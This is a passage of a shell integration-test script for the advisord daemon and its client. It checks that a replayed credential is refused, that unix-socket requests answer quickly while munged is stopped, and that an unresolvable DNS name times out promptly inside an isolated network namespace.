grep -q "reload requested" "$SCRATCH/d2.log" && fail "the replayed reload ran on the second daemon"
pass "a credential captured by a relay on one daemon, replayed on a second with its own munged: refused, no reload"
fi

if want 7; then
# munged hung: TCP clients wait for their credentials, the workers do not.
kill -STOP "$MUNGED_PID"
TCP_PIDS=
for n in 1 2 3; do
	spawn "$ADVISORCTL" --server "127.0.0.1:$PORT2" --timeout 8000 status > "$SCRATCH/stopped$n.out" 2>&1
	TCP_PIDS="$TCP_PIDS $!"
done
# Connected, so that the daemon waits for munged on their behalf.
tcp_clients() { [ "$(ss -tnH state established "( dport = :$PORT2 )" 2> /dev/null | wc -l)" -ge 3 ]; }
wait_until -s 'ss -tnH state established "( dport = :$PORT2 )"; cat "$SCRATCH"/stopped?.out' 5 \
	"3 TCP clients connected to the second daemon" tcp_clients
t0=$(ms)
"$ADVISORCTL" --socket "$SCRATCH/d2.sock" --timeout 5000 $CHECK > "$SCRATCH/unix.out" 2>&1
rc=$?
t1=$(ms)
waiting=0
for p in $TCP_PIDS; do running "$p" && waiting=$((waiting + 1)); done
kill -CONT "$MUNGED_PID"
for p in $TCP_PIDS; do wait "$p"; done
[ "$rc" -eq 0 ] || fail "the unix-socket check with munged stopped: exit $rc: $(cat "$SCRATCH/unix.out")"
[ $((t1 - t0)) -lt 1000 ] || fail "the unix-socket check took $((t1 - t0)) ms with munged stopped (bound 1000)"
[ "$waiting" -eq 3 ] || fail "only $waiting of 3 TCP clients were still waiting while munged was stopped"
expect_status 0 "TCP after munged resumes" "$ADVISORCTL" --server "127.0.0.1:$PORT2" --timeout 5000 status
pass "munged stopped: a unix-socket check answered in $((t1 - t0)) ms while 3 TCP clients waited; TCP served again after"
fi

want 4 || exit 0

# --- 4. a DNS name that never answers ------------------------------------------------------
if ! unshare -mn true 2> /dev/null || ! command -v ip > /dev/null; then
	echo "SKIP: unshare -mn or ip not available: no DNS blackhole case"
	exit 0
fi
# getaddrinfo_a() resolves on threads glibc starts inside libc, past
# ThreadSanitizer's pthread_create interceptor: a TSan-built client crashes
# in them (SIGSEGV, no report) before any code of ours runs there.  The
# plain and ASan builds run this case; a thread of our own would be seen
# by TSan, but sbatch may dlclose the plugin while such a thread still
# runs its code, which libc's threads never do.
if ldd "$ADVISORCTL" 2> /dev/null | grep -q libtsan; then
	echo "SKIP: a ThreadSanitizer build: no DNS blackhole case (getaddrinfo_a's threads)"
	exit 0
fi
printf 'nameserver 127.0.0.1\noptions timeout:5 attempts:2\n' > "$SCRATCH/resolv.conf"
printf '127.0.0.1 localhost\n' > "$SCRATCH/hosts"
cat > "$SCRATCH/dns.sh" <<EOT
top_srcdir='$top_srcdir' top_builddir='$top_builddir'
. "\$top_srcdir/tests/integration/lib.sh"
# The sink and the daemon below end with this script (its EXIT trap), and
# when it is cut short, with the group the test spawned it in: started
# with a plain &, not spawn, they stay in that group.
trap end_spawned EXIT
trap 'exit 1' INT TERM
ip link set lo up || exit 3
# A non-loopback address, or getaddrinfo's AI_ADDRCONFIG skips DNS altogether.
ip addr add 10.200.0.1/32 dev lo || exit 3
mount --bind "$SCRATCH/resolv.conf" /etc/resolv.conf || exit 3
mount --bind "$SCRATCH/hosts" /etc/hosts || exit 3
"$PY" -c 'import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 53))
while True: s.recv(4096)' &
track_pid \$!
sink_up() { ss -uanH | grep -q "127.0.0.1:53 "; }
wait_until -p \$! -s 'ss -uanH' 5 "the DNS sink on 127.0.0.1:53" sink_up
echo setup=ok
"$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/dns.sock" \
	--db "$SCRATCH/dns.db" --listen 127.0.0.1:$PORT > "$SCRATCH/dns.log" 2>&1 &
track_pid \$!
dns_daemon() { "$ADVISORCTL" --socket "$SCRATCH/dns.sock" status > /dev/null 2>&1; }
wait_until -p \$! -s 'tail -n 5 "$SCRATCH/dns.log"' 10 "advisord in the namespace to answer" dns_daemon
t0=\$(date +%s%3N)
timeout 30 "$ADVISORCTL" --server "advisor-blackhole.example.org:$PORT,127.0.0.1:$PORT" --timeout 1000 $CHECK > "$SCRATCH/dns.out" 2> "$SCRATCH/dns.err"
rc=\$?
t1=\$(date +%s%3N)
t2=\$(date +%s%3N)
timeout 30 "$ADVISORCTL" --server "advisor-blackhole.example.org:$PORT" --timeout 1000 status > /dev/null 2> "$SCRATCH/dns1.err"
t3=\$(date +%s%3N)
echo "rc=\$rc"
echo "ms=\$((t1 - t0))"
echo "alone_ms=\$((t3 - t2))"
EOT
# Spawned: a script cut short leaves nothing running in the namespace
# (its sink and daemon are in the same group).
spawn unshare -mn sh "$SCRATCH/dns.sh" > "$SCRATCH/dns.res" 2>&1
wait $!
case $(value rc "$SCRATCH/dns.res") in
'')
	# A namespace that could not be made is a skip; a daemon that did not
	# start in one that was made is not.
	grep -q '^setup=ok' "$SCRATCH/dns.res" && fail "the DNS case: $(cat "$SCRATCH/dns.res")"
	echo "SKIP: the DNS namespace could not be set up: $(cat "$SCRATCH/dns.res")"; exit 0 ;;
0) ;;
*) fail "a check with a blackholed name first: $(cat "$SCRATCH/dns.res" "$SCRATCH/dns.err")" ;;
esac
[ "$(value ms "$SCRATCH/dns.res")" -lt 1500 ] || fail "a blackholed name took $(value ms "$SCRATCH/dns.res") ms (timeout 1000)"
[ "$(value alone_ms "$SCRATCH/dns.res")" -lt 1500 ] && grep -q "advisor-blackhole.example.org:$PORT: name advisor-blackhole.example.org not resolved in time" "$SCRATCH/dns1.err" ||
	fail "the blackholed name alone: $(value alone_ms "$SCRATCH/dns.res") ms, $(cat "$SCRATCH/dns1.err")"
pass "a name whose DNS never answers (alone: refused in $(value alone_ms "$SCRATCH/dns.res") ms, named), then a live server: answered in $(value ms "$SCRATCH/dns.res") ms at timeout 1000"
